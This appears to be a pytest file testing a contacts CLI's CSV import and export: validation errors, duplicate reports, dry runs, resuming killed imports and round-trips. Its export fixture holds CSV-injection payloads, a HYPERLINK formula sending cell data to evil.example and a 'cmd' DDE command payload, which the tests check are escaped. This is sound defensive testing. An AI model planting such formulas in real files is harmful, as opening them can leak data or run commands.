"""`vantage-contacts import` and `export`, run for real in subprocesses on a SQLite file.

The API (in-process, on the same file) makes clients and reads contacts back; the job rows
and contact rows are read with sqlite3, as an operator would.
"""

from __future__ import annotations

import csv
import signal
import sqlite3
import subprocess
import time
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.processes import CLI, base_env
from vantage_contacts.app import create_app
from vantage_contacts.config import Settings
from vantage_contacts.imports.csvmap import formula_safe
from vantage_contacts.imports.files import EXPORT_COLUMNS

COMMAND_TIMEOUT = 300  # seconds: an import of a few thousand rows on a busy 2-core machine
WORKSPACE = "acme-agency"

pytestmark = pytest.mark.slow  # real processes
COMPARED = ("name", "email", "phone", "mobile", "title", "department", "roles", "portal")
COMPARED_TOO = ("communication", "notes")


@pytest.fixture(autouse=True)
def _sqlite_only(backend: str) -> None:
    # The commands run on a SQLite file of their own; the PostgreSQL run would repeat them.
    if backend != "sqlite":
        pytest.skip("the commands are tested on their own SQLite file; run once")


@pytest.fixture
def database_file(tmp_path: Path) -> Path:
    return tmp_path / "import.db"


@pytest.fixture
def env(database_file: Path, tmp_path: Path) -> dict[str, str]:
    return base_env(
        VANTAGE_DATABASE_URL=f"sqlite:///{database_file}",
        VANTAGE_MAIL_DIR=str(tmp_path / "mail"),
        COLUMNS="120",
    )


def cli(env: dict[str, str], *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        [str(CLI), *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=COMMAND_TIMEOUT,
        check=False,
    )
    if check:
        assert result.returncode == 0, f"{args}: {result.stdout}\n{result.stderr}"
    return result


def import_for(
    env: dict[str, str], source: Path, client_id: str, *more: str, check: bool = True
) -> subprocess.CompletedProcess[str]:
    """`vantage-contacts import SOURCE --workspace acme-agency --client-id CLIENT_ID …`."""
    args = ("import", str(source), "--workspace", WORKSPACE, "--client-id", client_id, *more)
    return cli(env, *args, check=check)


class Workspace:
    """One workspace's test-mode key, used through the in-process API."""

    def __init__(self, app: TestClient, env: dict[str, str], name: str) -> None:
        self.app = app
        self.name = name
        secret = cli(env, "keys", "create", "--workspace", name).stdout.strip().splitlines()[-1]
        self.headers = {"Authorization": f"Bearer {secret}"}

    def post(self, path: str, body: dict[str, Any]) -> dict[str, Any]:
        response = self.app.post(path, json=body, headers=self.headers)
        assert response.status_code == 201, response.text
        data: dict[str, Any] = response.json()["data"]
        return data

    def client(self, name: str, **fields: Any) -> str:
        return str(self.post("/v1/clients", {"name": name, **fields})["id"])

    def contacts(self, **params: Any) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = []
        page = 1
        while True:
            response = self.app.get(
                "/v1/contacts",
                params={"per_page": 100, "page": page, **params},
                headers=self.headers,
            )
            assert response.status_code == 200, response.text
            body = response.json()
            found += body["data"]
            if page >= body["pagination"]["total_pages"]:
                return found
            page += 1


@pytest.fixture
def app(database_file: Path, env: dict[str, str], tmp_path: Path) -> Iterator[TestClient]:
    cli(env, "migrate")
    settings = Settings(
        database_url=f"sqlite:///{database_file}",
        mail_dir=tmp_path / "mail",
        log_level="WARNING",
        run_worker=False,
        rate_limit_per_minute=1_000_000,
        rate_limit_burst=1_000_000,
    )
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        yield client


@pytest.fixture
def acme(app: TestClient, env: dict[str, str]) -> Workspace:
    return Workspace(app, env, WORKSPACE)


def query(database_file: Path, sql: str, *params: Any) -> list[tuple[Any, ...]]:
    with closing(sqlite3.connect(database_file, timeout=30)) as conn:
        return list(conn.execute(sql, params))


def contact_count(database_file: Path) -> int:
    [(count,)] = query(database_file, "SELECT count(*) FROM contacts WHERE deleted_at IS NULL")
    return int(count)


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as source:
        return list(csv.DictReader(source))


def people(count: int) -> list[list[str]]:
    return [[f"Person {i:06d}", f"person{i}@example.com"] for i in range(count)]


# --- import -------------------------------------------------------------------------------------


def test_import_creates_contacts_and_reports_failing_rows(
    acme: Workspace, env: dict[str, str], tmp_path: Path
) -> None:
    north = acme.client("North Ltd", email_slug="north")
    south = acme.client("South GmbH")
    source = write_csv(
        tmp_path / "crm.csv",
        ["Full Name", "Work Email", "Company", "Cell"],
        [
            ["Ada Lovelace", "ada@example.com", "North Ltd", "+1 415 555 0100"],  # line 2
            ["Bad Phone", "", "south gmbh", "call me"],  # line 3
            ["Grace Hopper", "grace@example.com", "north", ""],  # line 4
            ["Nobody's", "", "Unknown Co", ""],  # line 5
            ["Alan Turing", "alan@example.com", south, ""],  # line 6
        ],
    )
    result = cli(
        env,
        "import",
        str(source),
        "--workspace",
        WORKSPACE,
        "--client-column",
        "Company",
        "--map",
        "Work Email=email",
        "--map",
        "Cell=mobile",
    )
    assert "3 contact(s) created; 2 row(s) failed." in result.stderr
    found = {c["name"]: c for c in acme.contacts()}
    assert set(found) == {"Ada Lovelace", "Grace Hopper", "Alan Turing"}
    assert (found["Ada Lovelace"]["client_id"], found["Ada Lovelace"]["mobile"]) == (
        north,
        "+1 415 555 0100",
    )
    assert found["Grace Hopper"]["client_id"] == north
    assert found["Alan Turing"]["client_id"] == south
    report = read_csv(tmp_path / "crm.errors.csv")
    assert [(r["row"], r["code"], r["field"]) for r in report] == [
        ("3", "validation_error", "mobile"),
        ("5", "not_found", ""),
    ]
    assert "Unknown Co" in report[1]["message"]
    assert str(tmp_path / "crm.errors.csv") in result.stderr


def test_import_lists_created_rows_that_look_like_existing_contacts(
    acme: Workspace, env: dict[str, str], tmp_path: Path
) -> None:
    client_id = acme.client("Only Client")
    first = write_csv(tmp_path / "first.csv", ["Name", "Email"], [["Katherine Johnson", ""]])
    import_for(env, first, client_id)
    [katherine] = acme.contacts()
    source = write_csv(
        tmp_path / "second.csv",
        ["Name", "Email"],
        [["Grace Hopper", "grace@example.com"], ["Katherine Johnson", "kj@example.com"]],
    )
    result = import_for(env, source, client_id)
    assert "2 contact(s) created; 0 row(s) failed." in result.stderr
    assert "1 created row(s) look like contacts already there" in result.stderr
    created = {c["name"]: c["id"] for c in acme.contacts() if c["id"] != katherine["id"]}
    report = read_csv(tmp_path / "second.duplicates.csv")
    assert [(r["row"], r["id"], r["possible_duplicate_id"], r["match_reason"]) for r in report] == [
        ("3", created["Katherine Johnson"], katherine["id"], "same_name")
    ]
    assert float(report[0]["confidence"]) >= 0.5


def test_import_with_a_client_id_and_an_errors_path(
    acme: Workspace, env: dict[str, str], tmp_path: Path
) -> None:
    client_id = acme.client("Only Client")
    source = write_csv(tmp_path / "in.csv", ["Name", "Email"], [*people(3), ["", "x@example.com"]])
    errors = tmp_path / "reports" / "failures.csv"
    errors.parent.mkdir()
    result = import_for(env, source, client_id, "--errors", str(errors))
    assert "3 contact(s) created; 1 row(s) failed." in result.stderr
    assert {c["client_id"] for c in acme.contacts()} == {client_id}
    assert [(r["row"], r["field"]) for r in read_csv(errors)] == [("5", "name")]


def test_import_dry_run_checks_every_row_and_changes_nothing(
    acme: Workspace, env: dict[str, str], database_file: Path, tmp_path: Path
) -> None:
    client_id = acme.client("Dry Client")
    source = write_csv(tmp_path / "dry.csv", ["Name", "Phone"], [["Ok", ""], ["Bad", "nope"]])
    before = {
        table: query(database_file, f"SELECT count(*) FROM {table}")
        for table in ("contacts", "contact_imports", "events", "activity")
    }
    result = import_for(env, source, client_id, "--dry-run")
    assert "1 contact(s) would be created; 1 row(s) failed." in result.stderr
    assert [r["row"] for r in read_csv(tmp_path / "dry.errors.csv")] == ["3"]
    after = {table: query(database_file, f"SELECT count(*) FROM {table}") for table in before}
    assert after == before


def test_import_refuses_an_unknown_workspace_or_mapping(
    acme: Workspace, env: dict[str, str], database_file: Path, tmp_path: Path
) -> None:
    client_id = acme.client("C")
    source = write_csv(tmp_path / "x.csv", ["Name"], [["Ada"]])
    unknown = cli(
        env, "import", str(source), "--workspace", "nope", "--client-id", client_id, check=False
    )
    assert unknown.returncode == 1
    assert "No workspace named 'nope'" in unknown.stderr
    bad_map = import_for(env, source, client_id, "--map", "Name=nickname", check=False)
    assert bad_map.returncode == 1
    assert "nickname" in bad_map.stderr
    assert contact_count(database_file) == 0


def test_import_resumes_a_job_a_killed_run_left_halfway(
    acme: Workspace, env: dict[str, str], database_file: Path, tmp_path: Path
) -> None:
    client_id = acme.client("Big Client")
    total = 4_000
    # Every 250th row fails (a phone that is no phone): the error report must list each once.
    rows = [[*row, "nope" if i % 250 == 0 else ""] for i, row in enumerate(people(total))]
    failing_lines = {str(i + 2) for i in range(0, total, 250)}
    source = write_csv(tmp_path / "big.csv", ["Name", "Email", "Phone"], rows)
    command = [str(CLI), "import", str(source), "--workspace", WORKSPACE, "--client-id", client_id]
    process = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + COMMAND_TIMEOUT
        processed = 0
        while processed == 0 and time.monotonic() < deadline and process.poll() is None:
            time.sleep(0.05)  # polling the job's progress, bounded by the deadline
            rows = query(database_file, "SELECT processed_rows FROM contact_imports")
            processed = rows[0][0] if rows else 0
        process.send_signal(signal.SIGKILL)
    finally:
        process.wait(timeout=30)
    [(status, done_before)] = query(
        database_file, "SELECT status, processed_rows FROM contact_imports"
    )
    assert status == "pending" and 0 < done_before < total, (status, done_before)
    failed_before = len([i for i in range(0, done_before, 250)])
    # Each chunk commits with its progress.
    assert contact_count(database_file) == done_before - failed_before

    result = cli(env, *command[1:])
    assert f"after row {done_before}" in result.stderr
    created = total - len(failing_lines)
    assert f"{created} contact(s) created; {len(failing_lines)} row(s) failed." in result.stderr
    [(status, processed, created_count)] = query(
        database_file, "SELECT status, processed_rows, created_count FROM contact_imports"
    )
    assert (status, processed, created_count) == ("completed", total, created)
    [(count, distinct)] = query(
        database_file,
        "SELECT count(*), count(DISTINCT email) FROM contacts WHERE deleted_at IS NULL",
    )
    assert (count, distinct) == (created, created)
    # The report, begun by the killed run and finished by the second: each failing row once.
    reported = [row["row"] for row in read_csv(tmp_path / "big.errors.csv")]
    assert sorted(reported, key=int) == sorted(failing_lines, key=int)


def test_import_of_the_same_file_after_it_completed_starts_a_new_job(
    acme: Workspace, env: dict[str, str], database_file: Path, tmp_path: Path
) -> None:
    """A finished file imported again is a new import: its rows now collide on email."""
    client_id = acme.client("Again")
    source = write_csv(tmp_path / "again.csv", ["Name", "Email"], people(3))
    args = ("import", str(source), "--workspace", WORKSPACE, "--client-id", client_id)
    cli(env, *args)
    second = cli(env, *args)
    assert "0 contact(s) created; 3 row(s) failed." in second.stderr
    assert contact_count(database_file) == 3
    assert len(query(database_file, "SELECT id FROM contact_imports")) == 2


# --- export -------------------------------------------------------------------------------------


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _make_varied_contacts(acme: Workspace, client_id: str) -> None:
    acme.post(
        "/v1/contacts",
        {
            "client_id": client_id,
            "name": 'Ada, Countess "of" Lovelace',
            "email": "ada@example.com",
            "phone": "(415) 555-0100",
            "mobile": "+44 7700 900123",
            "title": "Analyst",
            "department": "Engines",
            "is_primary": True,
            "is_billing": True,
            "portal_access": "view",
            "receives_reports": True,
            "receives_project_updates": False,
            "notes": "Line one\nLine two, with comma",
        },
    )
    acme.post("/v1/contacts", {"client_id": client_id, "name": "Plain Person"})
    acme.post(
        "/v1/contacts",
        {
            "client_id": client_id,
            "name": FORMULA_NAME,
            "title": "+cmd|' /C calc'!A0",
            "notes": "@SUM(1+1)",
        },
    )
    acme.post(
        "/v1/contacts",
        {
            "client_id": client_id,
            "name": "Zoë Ünïcode",
            "email": "zoe@example.com",
            "is_technical": True,
        },
    )


def test_export_writes_every_live_contact(
    acme: Workspace, app: TestClient, env: dict[str, str], tmp_path: Path
) -> None:
    first = acme.client("First")
    second = acme.client("Second")
    _make_varied_contacts(acme, first)
    gone = acme.post("/v1/contacts", {"client_id": second, "name": "Deleted Person"})
    assert app.delete(f"/v1/contacts/{gone['id']}", headers=acme.headers).status_code == 200
    acme.post("/v1/contacts", {"client_id": second, "name": "Second Person"})

    out = tmp_path / "all.csv"
    result = cli(env, "export", str(out), "--workspace", WORKSPACE)
    assert "Wrote 5 contact(s)" in result.stderr
    with out.open(newline="", encoding="utf-8") as source:
        assert next(csv.reader(source)) == list(EXPORT_COLUMNS)
    rows = {row["id"]: row for row in read_csv(out)}
    live = {c["id"]: c for c in acme.contacts()}
    assert set(rows) == set(live)
    for contact_id, contact in live.items():
        row = rows[contact_id]
        assert row["name"] == formula_safe(contact["name"])
        assert row["email"] == (contact["email"] or "")
        assert row["client_id"] == contact["client_id"]
        assert row["is_primary"] == str(contact["roles"]["is_primary"]).lower()
        assert row["notes"] == formula_safe(contact["notes"] or "")
        assert row["created_at"] == contact["created_at"]
    # No cell a spreadsheet would run as a formula (CSV injection).
    [formula] = [row for row in rows.values() if FORMULA_NAME in row["name"]]
    assert (formula["name"], formula["title"], formula["notes"]) == (
        "'" + FORMULA_NAME,
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
    )
    # Phone numbers are kept as they were entered, and written as they are.
    assert "+44 7700 900123" in {row["mobile"] for row in rows.values()}

    only_second = tmp_path / "second.csv"
    cli(env, "export", str(only_second), "--workspace", WORKSPACE, "--client-id", second)
    assert [row["name"] for row in read_csv(only_second)] == ["Second Person"]


def test_an_export_imported_into_another_workspace_reproduces_the_contacts(
    acme: Workspace, app: TestClient, env: dict[str, str], tmp_path: Path
) -> None:
    source_client = acme.client("Source")
    _make_varied_contacts(acme, source_client)
    out = tmp_path / "export.csv"
    cli(env, "export", str(out), "--workspace", WORKSPACE, "--client-id", source_client)

    other = Workspace(app, env, "other-agency")
    target_client = other.client("Target")
    result = cli(env, "import", str(out), "--workspace", other.name, "--client-id", target_client)
    assert "4 contact(s) created; 0 row(s) failed." in result.stderr

    def comparable(contact: dict[str, Any]) -> dict[str, Any]:
        kept = {field: contact[field] for field in (*COMPARED, *COMPARED_TOO)}
        kept["portal"] = {"access_level": contact["portal"]["access_level"]}
        return kept

    original = sorted((comparable(c) for c in acme.contacts()), key=lambda c: c["name"])
    copied = other.contacts()
    assert {c["client_id"] for c in copied} == {target_client}
    assert sorted((comparable(c) for c in copied), key=lambda c: c["name"]) == original


def test_import_explains_a_file_it_cannot_read_and_changes_nothing(
    acme: Workspace, env: dict[str, str], database_file: Path, tmp_path: Path
) -> None:
    client_id = acme.client("Unreadable")
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes("Name\nJosé\n".encode("latin-1"))
    unclosed = tmp_path / "unclosed.csv"
    unclosed.write_text('Name,Notes\nAda,"never closed\nBob,b\n', encoding="utf-8")
    for source, said in ((latin1, "not UTF-8"), (unclosed, "not valid CSV")):
        result = import_for(env, source, client_id, check=False)
        assert result.returncode == 1, result.stderr
        assert said in result.stderr
        assert "Traceback" not in result.stderr
    assert contact_count(database_file) == 0
    assert query(database_file, "SELECT count(*) FROM contact_imports") == [(0,)]


def test_import_names_the_columns_it_does_not_read(
    acme: Workspace, env: dict[str, str], tmp_path: Path
) -> None:
    client_id = acme.client("Columns")
    source = write_csv(tmp_path / "cols.csv", ["Name", "Emial"], [["Ada", "ada@example.com"]])
    result = import_for(env, source, client_id)
    assert "Columns no field reads" in result.stderr
    assert "'Emial'" in result.stderr
